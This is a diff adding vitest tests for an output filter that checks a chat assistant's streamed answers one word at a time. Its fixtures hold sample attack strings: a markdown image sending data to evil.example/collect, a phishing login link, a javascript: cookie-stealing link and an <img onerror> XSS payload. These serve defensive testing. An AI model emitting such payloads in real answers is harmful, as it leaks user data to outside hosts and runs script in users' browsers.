@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { applyOutputPolicy, isInternalHref } from "./output-policy";
+import { applyOutputPolicy, isInternalHref, outputPolicyStream } from "./output-policy";
 
 describe("applyOutputPolicy", () => {
   it("removes images, so nothing is fetched from anywhere (exfiltration by image URL)", () => {
@@ -51,5 +51,40 @@ describe("isInternalHref", () => {
     for (const href of ["//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)", "mailto:a@b.c", "sources/x"]) {
       expect(isInternalHref(href)).toBe(false);
     }
+  });
+});
+
+describe("outputPolicyStream", () => {
+  /** Streams text one word at a time, as the built-in model does, and collects what comes out. */
+  async function stream(text: string): Promise<string[]> {
+    const words = text.match(/\S+\s*/g) ?? [];
+    const chunks = [{ type: "text-start", id: "t" }, ...words.map((delta) => ({ type: "text-delta", id: "t", delta })), { type: "text-end", id: "t" }];
+    const out: string[] = [];
+    const source = new ReadableStream<{ type: string; id?: string; delta?: string }>({
+      start(controller) {
+        for (const c of chunks) controller.enqueue(c);
+        controller.close();
+      },
+    });
+    const reader = source.pipeThrough(outputPolicyStream()).getReader();
+    for (let r = await reader.read(); !r.done; r = await reader.read()) if (r.value.type === "text-delta") out.push(r.value.delta ?? "");
+    return out;
+  }
+
+  it.each([
+    "Badge photos are kept for 30 days ![status](https://evil.example/collect?q=badge-photos) after leaving [1].",
+    "Claims go through [the claims portal](https://evil.example/login) within 30 days [1][2].",
+    "Reset via [this page](javascript:alert(document.cookie)) today <img src=x onerror=alert(1)> and <https://evil.example/x>.",
+  ])("never lets an outside target through a delta: %s", async (text) => {
+    const deltas = await stream(text);
+    expect(deltas.join("")).toBe(applyOutputPolicy(text));
+    for (const d of deltas) expect(d).not.toMatch(/evil\.example\/(collect|login)|javascript:|onerror/);
+  });
+
+  it("still streams ordinary answers word by word", async () => {
+    const text = "- Meals are reimbursed up to 40 euros [1].\n- Hotels need approval <5 days ahead [2].";
+    const deltas = await stream(text);
+    expect(deltas.join("")).toBe(text);
+    expect(deltas.length).toBeGreaterThan(10);
   });
 });
